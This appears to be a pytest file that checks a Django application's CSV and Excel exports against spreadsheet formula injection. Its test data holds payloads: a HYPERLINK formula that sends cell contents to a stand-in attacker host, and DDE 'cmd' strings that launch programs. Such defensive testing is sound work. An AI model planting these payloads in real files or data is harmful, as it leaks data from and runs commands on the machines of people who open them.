"""No CSV or Excel file the product writes carries a live formula (issue 23, point 4).

Every export is fetched with records whose text is a formula; no Excel cell may be a
formula and no CSV cell may start with a character that makes a spreadsheet program run it.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from conftest import login
from samarbeid.finance.run_steps import approve_run
from samarbeid.finance.tests import helpers as h
from samarbeid.finance.tests.test_services import VESTFOLD_NOW, Y2026, run_2026
from samarbeid.lib import spreadsheet
from samarbeid.portal.opendata import DATASETS
from samarbeid.registry.models import Municipality
from samarbeid.strategy.tests.helpers import arena_of, goal, money, on, plan, project

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")'
EVIL_CELLS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _assert_csv_safe(text: str, delimiter: str = ",") -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
    for row in rows:
        for cell in row:
            assert not spreadsheet.is_risky(cell), f"formula in CSV cell {cell!r}"
    return rows


def _assert_xlsx_safe(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                values.append(cell.value)
    return values


@pytest.fixture
def evil_arena() -> Any:
    arena = arena_of(["3909", "3901"], name=EVIL, short_name="VS", published=True)
    p = plan(arena, first=2023, last=2026, title=EVIL)
    goal(p, 1, EVIL)
    for index, title in enumerate(EVIL_CELLS):
        proj = project(arena, f"P{index}", title=title, budget=Decimal("1000.00"), published=True)
        money(proj, "150000.00", 2024, municipality=on("3909", date(2024, 6, 1)))
    return arena, p


def test_excel_exports_hold_no_formula(client: Client, evil_arena: Any, secretariat: Any) -> None:
    arena, p = evil_arena
    login(client, secretariat)
    larvik = on("3909", date(2024, 6, 1))
    urls = [
        reverse("portfolio:project_export"),
        reverse("reports:annual_as", args=[arena.pk, 2024, "xlsx"]),
        reverse("reports:plan_as", args=[p.pk, "xlsx"]),
        reverse("reports:municipality_as", args=[larvik.code, "xlsx"])
        + "?first_year=2021&last_year=2026",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        values = _assert_xlsx_safe(response.content)
        # the text is kept as it was written, as text
        assert EVIL in values, url
    # numbers stay numbers
    values = _assert_xlsx_safe(client.get(reverse("portfolio:project_export")).content)
    assert Decimal("1000") in [Decimal(str(v)) for v in values if isinstance(v, int | float)]


def test_open_data_csv_holds_no_formula(client: Client, evil_arena: Any) -> None:
    seen = ""
    for dataset in DATASETS:
        response = client.get(reverse("core:open_data_file", args=[dataset.slug, "csv"]))
        assert response.status_code == 200
        text = response.content.decode()
        _assert_csv_safe(text)
        seen += text
    for cell in EVIL_CELLS:
        assert "'" + cell.replace('"', '""') in seen
    assert ",1000.00," in seen  # an amount is written as it was


@pytest.fixture
def evil_run(secretariat: Any) -> Any:
    arena = h.arena(VESTFOLD_NOW, Y2026, host="3905", short_name="VF")
    run = run_2026(arena, secretariat)
    approve_run(h.ready(run), expected_version=None, actor=secretariat)
    Municipality.objects.filter(number="3901").update(name=EVIL)
    return run


def test_invoice_run_summaries_hold_no_formula(
    client: Client, evil_run: Any, secretariat: Any, tmp_path: Path
) -> None:
    login(client, secretariat)
    response = client.get(reverse("finance:run_csv", args=[evil_run.pk]))
    rows = _assert_csv_safe(response.content.decode(), delimiter=";")
    assert ["3901", "'" + EVIL, "100000.00", "invoiced", ""] in rows
    values = _assert_xlsx_safe(client.get(reverse("finance:run_xlsx", args=[evil_run.pk])).content)
    assert EVIL in values
    assert Decimal("100000") in values
    call_command("invoice_run", "VF", "2026", "--out", str(tmp_path), stdout=io.StringIO())
    _assert_csv_safe((tmp_path / "summary.csv").read_text(encoding="utf-8"), delimiter=";")


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        (EVIL, True),
        ("+47 33 00 00 00", True),
        ("@user", True),
        ("\tx", True),
        ("\r=1", True),
        ("-12.50", False),
        ("+3", False),
        ("12,5", False),
        ("Larvik", False),
        ("", False),
        ("a=1", False),
    ],
)
def test_is_risky(text: str, risky: bool) -> None:
    assert spreadsheet.is_risky(text) is risky


@given(st.text())
def test_no_csv_cell_is_ever_risky(text: str) -> None:
    assert not spreadsheet.is_risky(str(spreadsheet.csv_cell(text)))
    assert spreadsheet.csv_cell(text).endswith(text)


@given(st.lists(st.one_of(st.text(), st.integers(), st.decimals(allow_nan=False))))
def test_no_excel_cell_is_ever_a_formula(values: list[Any]) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    cleaned = [v for v in values if not (isinstance(v, str) and any(ord(c) < 32 for c in v))]
    sheet.append(cleaned)
    loaded = load_workbook(io.BytesIO(spreadsheet.workbook_bytes(book))).active
    assert loaded is not None
    for cell in loaded[1]:
        assert cell.data_type != "f"
